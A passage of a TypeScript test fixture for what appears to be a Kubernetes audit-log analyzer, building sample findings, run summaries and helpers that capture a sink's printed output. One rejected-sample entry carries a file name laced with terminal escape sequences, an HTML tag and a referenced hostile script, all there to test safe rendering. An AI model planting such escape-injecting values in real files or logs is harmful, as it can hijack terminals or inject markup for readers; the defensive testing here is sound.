  }),
});

/** Every sample, in an order that no sink should keep: 13 groups, 28 findings. */
export const SAMPLE_FINDINGS: readonly Finding[] = [
  quietBackup,
  unseenBody,
  ...nodeAgents,
  reverseShell,
  hostileNames,
  dryRun,
  wideCharacters,
  nothingKnown,
  hostRootJob,
  cutRecord,
  ...reverseShellRepeats,
  refusedAnonymous,
  imagePatch,
  impersonation,
];

const bySeverity = (findings: readonly Finding[]): Record<Severity, number> => {
  const counts: Record<Severity, number> = { info: 0, low: 0, medium: 0, high: 0, critical: 0 };
  for (const severity of SEVERITIES) counts[severity] = findings.filter((one) => one.severity === severity).length;
  return counts;
};

/** A run over two files in which something of everything happened. */
export const sampleSummary = (changes: Partial<Summary> = {}): Summary => ({
  files: 2,
  bytes: 1_288_490_188,
  records: 1_204_331,
  passedUnread: 1_180_002,
  events: 24_301,
  others: 12,
  rejected: 16,
  rejectedSamples: [
    {
      source: 'audit/kube-apiserver-2026-11-24.jsonl',
      offset: 1_048_576,
      reason: 'not JSON near "\\u0000\\u0000": is this an audit log?',
    },
    {
      source: `logs/${ESC}]0;x${BEL}<b>.jsonl`,
      offset: 77,
      reason: `not JSON near "${HOSTILE_SCRIPT}${ESC}[2J": is this an audit log?`,
    },
    { source: 'aks-export.csv', offset: 4_096, reason: 'a record of 67108865 bytes is over the limit of 67108864' },
  ],
  passed: { 'a read': 23_900, 'a status write': 310, 'a controller at work': 58 },
  activities: 33,
  duplicates: 5,
  unseenBodies: 3,
  partialBodies: 2,
  cutEvents: 2,
  outsideWindow: 0,
  envelopes: { audit: 23_990, 'aks-audit': 311 },
  findings: bySeverity(SAMPLE_FINDINGS),
  firstEvent: '2026-11-18T00:00:01.000000Z',
  lastEvent: '2026-11-24T09:58:13.000000Z',
  unreadable: [{ path: '/var/log/kubernetes/audit-2026-11-17.log', reason: 'permission denied' }],
  warnings: ['aks-export.csv has exactly 30,000 rows: the export may have reached its limit'],
  elapsedMs: 1_520,
  ...changes,
});

/** A run in which nothing happened. */
export const emptySummary = (changes: Partial<Summary> = {}): Summary =>
  sampleSummary({
    files: 1,
    bytes: 0,
    records: 0,
    passedUnread: 0,
    events: 0,
    others: 0,
    rejected: 0,
    rejectedSamples: [],
    passed: {},
    activities: 0,
    duplicates: 0,
    unseenBodies: 0,
    partialBodies: 0,
    cutEvents: 0,
    envelopes: {},
    findings: bySeverity([]),
    firstEvent: null,
    lastEvent: null,
    unreadable: [],
    warnings: [],
    elapsedMs: 12,
    ...changes,
  });

export const sampleContext = (changes: Partial<SinkContext> = {}): SinkContext => ({
  width: 80,
  color: false,
  explain: false,
  summary: () => sampleSummary(),
  version: '0.1.0',
  ...changes,
});

/** The findings one after another, as the engine would hand them over. */
export async function* stream(findings: Iterable<Finding>): AsyncGenerator<Finding> {
  for (const finding of findings) yield finding;
}

/** Everything that a sink prints for these findings. */
export const printed = async (
  sink: Sink,
  findings: Iterable<Finding> = SAMPLE_FINDINGS,
  context: SinkContext = sampleContext(),
): Promise<string> => {
  let text = '';
  for await (const part of sink(stream(findings), context)) text += part;
  return text;
};
